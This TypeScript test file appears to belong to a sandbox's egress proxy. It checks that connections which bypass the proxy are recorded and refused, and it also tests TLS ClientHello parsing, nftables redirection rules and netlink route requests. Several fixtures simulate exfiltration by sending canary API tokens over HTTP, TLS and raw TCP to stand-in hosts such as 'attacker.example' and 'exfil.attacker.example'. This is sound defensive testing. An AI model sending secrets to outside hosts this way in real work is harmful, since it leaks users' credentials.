import assert from 'node:assert/strict';
import { once } from 'node:events';
import { request as httpRequest } from 'node:http';
import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
import { describe, it } from 'node:test';
import { connect as tlsConnect } from 'node:tls';
import { looksLikeTls, readClientHello } from '../../src/network/client-hello.js';
import { type EgressProxy, startEgressProxy } from '../../src/network/egress-proxy.js';
import { parseSockaddr } from '../../src/network/original-destination.js';
import { defaultRouteRequest } from '../../src/network/route-netlink.js';
import { parseSetListing, redirectionRuleset } from '../../src/sandbox/namespace-redirection.js';
import { runCa } from '../support/certificate-authorities.js';

/**
 * Connections that ignored the proxy, redirected to Witness inside the sandbox (SPEC §14): recorded by
 * what their first bytes show, with the address they were going to, and never forwarded. Here a loopback
 * listener hands each connection to `acceptRedirected` with the destination the sandbox's netfilter rules
 * would have read back (the heavy test runs the real redirection under bubblewrap).
 */

const ORIGINAL = { address: '203.0.113.7', port: 8080 };

async function redirectedHarness(
  options: Parameters<typeof startEgressProxy>[0] = {},
): Promise<{ proxy: EgressProxy; port: number; close(): Promise<void> }> {
  const proxy = startEgressProxy(options);
  const listener = createServer((socket) => proxy.acceptRedirected(socket, ORIGINAL));
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  return {
    proxy,
    port: (listener.address() as AddressInfo).port,
    async close() {
      await proxy.close();
      listener.close();
    },
  };
}

/** Waits for the client socket's end, whatever ends it. */
function closed(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    socket.on('error', () => undefined);
    socket.once('close', () => resolve());
  });
}

describe('connections that ignored the proxy, redirected', () => {
  it('HTTP: each request recorded with its Host, path and body, then refused with a 403; never forwarded', async () => {
    const h = await redirectedHarness();
    try {
      const reply = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = httpRequest({
          host: '127.0.0.1',
          port: h.port,
          method: 'POST',
          path: '/collect?k=1',
          headers: { host: 'attacker.example:8080' },
        });
        req.on('response', (res) => {
          let body = '';
          res.on('data', (chunk: Buffer) => {
            body += chunk.toString();
          });
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        });
        req.on('error', reject);
        req.end('API_TOKEN=sk-canary');
      });
      assert.equal(reply.status, 403);
      assert.match(reply.body, /ignored the proxy: a connection to 203\.0\.113\.7:8080/);
      const [entry] = h.proxy.evidence().requests;
      assert.deepEqual(
        [
          entry?.method,
          entry?.scheme,
          entry?.host,
          entry?.port,
          entry?.target,
          entry?.bodyText,
          entry?.disposition,
        ],
        ['POST', 'http', 'attacker.example', 8080, '/collect?k=1', 'API_TOKEN=sk-canary', 'refused'],
      );
      assert.deepEqual(entry?.redirectedFrom, ORIGINAL);
    } finally {
      await h.close();
    }
  });

  it('TLS: recorded by the server name of its ClientHello, the handshake never answered', async () => {
    const h = await redirectedHarness();
    try {
      const client = tlsConnect({ host: '127.0.0.1', port: h.port, servername: 'exfil.attacker.example' });
      const errored = once(client, 'error').catch(() => undefined);
      await Promise.race([closed(client), errored]);
      const [entry] = h.proxy.evidence().requests;
      assert.deepEqual(
        [entry?.method, entry?.scheme, entry?.host, entry?.port, entry?.intercepted, entry?.disposition],
        ['TLS', 'https', 'exfil.attacker.example', 8080, false, 'refused'],
      );
      assert.ok((entry?.tunnel?.bytesFromAgent ?? 0) > 0);
      assert.equal(entry?.tunnel?.bytesToAgent, 0);
    } finally {
      await h.close();
    }
  });

  it('TLS under intercept: terminated with a certificate for its server name, each request inside recorded and refused', async () => {
    const ca = runCa();
    const h = await redirectedHarness({ ca });
    try {
      const client = tlsConnect({
        host: '127.0.0.1',
        port: h.port,
        servername: 'attacker.example',
        ca: ca.certificatePem,
      });
      await once(client, 'secureConnect');
      client.write(
        'POST /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 10\r\nConnection: close\r\n\r\nsk-canary\n',
      );
      let reply = '';
      client.on('data', (chunk: Buffer) => {
        reply += chunk.toString('utf8');
      });
      await closed(client);
      assert.match(reply, /^HTTP\/1\.1 403/);
      const [entry] = h.proxy.evidence().requests;
      assert.deepEqual(
        [
          entry?.method,
          entry?.scheme,
          entry?.host,
          entry?.port,
          entry?.target,
          entry?.bodyText,
          entry?.intercepted,
          entry?.disposition,
          entry?.redirectedFrom,
        ],
        ['POST', 'https', 'attacker.example', 8080, '/collect', 'sk-canary\n', true, 'refused', ORIGINAL],
      );
      // A client that refuses the run's CA: recorded by its server name, the interception a gap.
      const refusing = tlsConnect({ host: '127.0.0.1', port: h.port, servername: 'other.example' });
      await once(refusing, 'error');
      await new Promise((resolve) => setTimeout(resolve, 100));
      const evidence = h.proxy.evidence();
      assert.deepEqual(
        evidence.requests.slice(1).map((request) => [request.method, request.host, request.intercepted]),
        [['TLS', 'other.example', false]],
      );
      assert.ok(evidence.coverage.gaps.some((gap) => gap.reason === 'tls_intercept_failed'));
    } finally {
      await h.close();
    }
  });

  it('anything else: its bytes recorded as the body of a tcp entry, to the end the client sends', async () => {
    const h = await redirectedHarness();
    try {
      const client = connect(h.port, '127.0.0.1');
      await once(client, 'connect');
      client.write('hello ');
      client.end('sk-canary\n');
      await closed(client);
      const [entry] = h.proxy.evidence().requests;
      assert.deepEqual(
        [entry?.method, entry?.scheme, entry?.host, entry?.port, entry?.bodyText, entry?.bodyTruncated],
        ['TCP', 'tcp', '203.0.113.7', 8080, 'hello sk-canary\n', false],
      );
      assert.match(entry?.bodySha256 ?? '', /^[0-9a-f]{64}$/);
    } finally {
      await h.close();
    }
  });

  it('bounds a raw client: maxReadBytes cuts it (prefix kept, no digest); one that sends nothing is recorded empty', async () => {
    const h = await redirectedHarness({ maxReadBytes: 4096, maxBodyBytes: 64, headersTimeoutMs: 300 });
    try {
      const flood = connect(h.port, '127.0.0.1');
      await once(flood, 'connect');
      flood.on('error', () => undefined);
      flood.write(Buffer.alloc(64 * 1024, 'a'));
      await closed(flood);
      const silent = connect(h.port, '127.0.0.1');
      await once(silent, 'connect');
      await closed(silent); // the sniffing window (300 ms here) ends it
      const [cut, empty] = h.proxy.evidence().requests;
      assert.deepEqual([cut?.bodyBytes, cut?.bodySha256, cut?.bodyTruncated], [4096, null, true]);
      assert.equal(cut?.bodyText?.length, 64);
      assert.deepEqual([empty?.scheme, empty?.bodyBytes, empty?.bodyText], ['tcp', 0, null]);
    } finally {
      await h.close();
    }
  });

  it('reads the server name of a ClientHello split over records, and refuses what is not one', () => {
    const name = Buffer.from('a.example');
    const sni = Buffer.concat([
      u16(0),
      u16(name.length + 5),
      u16(name.length + 3),
      Buffer.from([0]),
      u16(name.length),
      name,
    ]);
    const body = Buffer.concat([
      u16(0x0303),
      Buffer.alloc(32),
      Buffer.from([0]),
      u16(2),
      u16(0x1301),
      Buffer.from([1, 0]),
      u16(sni.length),
      sni,
    ]);
    const handshake = Buffer.concat([Buffer.from([1, 0, body.length >> 8, body.length & 0xff]), body]);
    const record = (part: Buffer) => Buffer.concat([Buffer.from([0x16, 3, 1]), u16(part.length), part]);
    const whole = record(handshake);
    const split = Buffer.concat([record(handshake.subarray(0, 10)), record(handshake.subarray(10))]);
    assert.deepEqual(readClientHello(whole), { kind: 'client_hello', serverName: 'a.example' });
    assert.deepEqual(readClientHello(split), { kind: 'client_hello', serverName: 'a.example' });
    assert.deepEqual(readClientHello(split.subarray(0, split.length - 1)), { kind: 'incomplete' });
    assert.deepEqual(readClientHello(Buffer.from('GET / HTTP/1.1\r\n')), { kind: 'not_tls' });
    // A length that points past the bytes there are is incomplete, never a read out of bounds.
    const lying = Buffer.from(whole);
    lying.writeUInt16BE(0xffff, 3);
    assert.deepEqual(readClientHello(lying), { kind: 'incomplete' });
    assert.equal(looksLikeTls(Buffer.from([0x16, 0x03])), true);
  });

  it('parses the sockaddr the kernel gives back, IPv4 and IPv6', () => {
    const v4 = Buffer.alloc(16);
    v4.writeUInt16LE(2, 0);
    v4.writeUInt16BE(443, 2);
    Buffer.from([203, 0, 113, 7]).copy(v4, 4);
    assert.deepEqual(parseSockaddr(v4), { address: '203.0.113.7', port: 443 });
    const v6 = Buffer.alloc(28);
    v6.writeUInt16LE(10, 0);
    v6.writeUInt16BE(80, 2);
    v6.writeUInt16BE(0x2001, 8);
    v6.writeUInt16BE(0x0db8, 10);
    v6.writeUInt16BE(7, 22);
    assert.deepEqual(parseSockaddr(v6), { address: '2001:db8::7', port: 80 });
    assert.equal(parseSockaddr(Buffer.alloc(4)), undefined);
  });

  it('leaves loopback traffic alone, sends TCP to the listener and IPv4 DNS to the resolver, drops the rest', () => {
    const lines = redirectionRuleset({ tcp: 3127, dns: 53 })
      .split('\n')
      .map((line) => line.trim());
    const nat = lines.slice(lines.indexOf('chain to_witness {'), lines.indexOf('chain outward {'));
    assert.deepEqual(nat.slice(2, 6), [
      'ip daddr 127.0.0.0/8 return',
      'ip6 daddr ::1 return',
      'meta l4proto tcp redirect to :3127',
      'ip protocol udp udp dport 53 redirect to :53',
    ]);
    const outward = lines.slice(lines.indexOf('chain outward {'));
    assert.deepEqual(outward.slice(2, 9), [
      'ip daddr 127.0.0.0/8 return',
      'ip6 daddr ::1 return',
      'ip protocol udp add @udp4 { ip daddr . udp dport }',
      'ip6 nexthdr udp add @udp6 { ip6 daddr . udp dport }',
      'meta l4proto udp counter drop',
      'drop',
      '}',
    ]);
    const v4only = redirectionRuleset({ tcp: 3127 }, false);
    assert.doesNotMatch(v4only, /ip6|udp6|dport 53/);
    assert.match(v4only, /add @udp4/);
  });

  it('reads dropped datagrams by destination from the set listing, dated to the second, never before the set-up', () => {
    const listing = {
      nftables: [
        { metainfo: { version: '1.0.6' } },
        {
          set: {
            name: 'udp4',
            elem: [
              {
                elem: {
                  val: { concat: ['203.0.113.7', 9999] },
                  expires: 86_397,
                  counter: { packets: 2, bytes: 68 },
                },
              },
              {
                elem: {
                  val: { concat: ['198.51.100.1', 53] },
                  expires: 86_390,
                  counter: { packets: 1, bytes: 60 },
                },
              },
              {
                elem: {
                  val: { concat: ['203.0.113.9', 1] },
                  expires: 86_399,
                  counter: { packets: 0, bytes: 0 },
                },
              },
            ],
          },
        },
      ],
    };
    const now = Date.parse('2026-12-07T12:00:10.000Z');
    const startedAt = Date.parse('2026-12-07T12:00:05.000Z');
    assert.deepEqual(parseSetListing(listing, { now, startedAt }), [
      {
        at: '2026-12-07T12:00:07.000Z',
        via: 'udp',
        host: '203.0.113.7',
        port: 9999,
        datagrams: 2,
        bytes: 68,
      },
      // 10 s old by its timer, but the rules are 5 s old: the set-up time bounds it.
      { at: '2026-12-07T12:00:05.000Z', via: 'udp', host: '198.51.100.1', port: 53, datagrams: 1, bytes: 60 },
    ]);
    assert.deepEqual(parseSetListing({ nftables: [{ set: { name: 'udp6' } }] }, { now, startedAt }), []);
  });

  it('asks rtnetlink for a default route out of lo with the loopback as its source', () => {
    const request = defaultRouteRequest(4, 1, '127.0.0.1');
    assert.equal(request.readUInt32LE(0), request.length);
    assert.equal(request.readUInt16LE(4), 24); // RTM_NEWROUTE
    assert.equal(request.readUInt16LE(6), 0x605); // request, ack, create, exclusive
    // rtmsg: AF_INET, a /0 destination, the main table, link scope, unicast.
    assert.deepEqual([...request.subarray(16, 24)], [2, 0, 0, 0, 254, 3, 253, 1]);
    // RTA_OIF = 1 (lo), then RTA_PREFSRC = 127.0.0.1.
    assert.deepEqual([...request.subarray(28, 36)], [8, 0, 4, 0, 1, 0, 0, 0]);
    assert.deepEqual([...request.subarray(36, 44)], [8, 0, 7, 0, 127, 0, 0, 1]);
    const v6 = defaultRouteRequest(6, 1, '::1');
    assert.equal(v6[16], 10); // AF_INET6
    assert.deepEqual([...v6.subarray(36, 40)], [20, 0, 7, 0]);
    assert.equal(v6[55], 1); // ::1
  });
});

function u16(value: number): Buffer {
  const buffer = Buffer.alloc(2);
  buffer.writeUInt16BE(value, 0);
  return buffer;
}
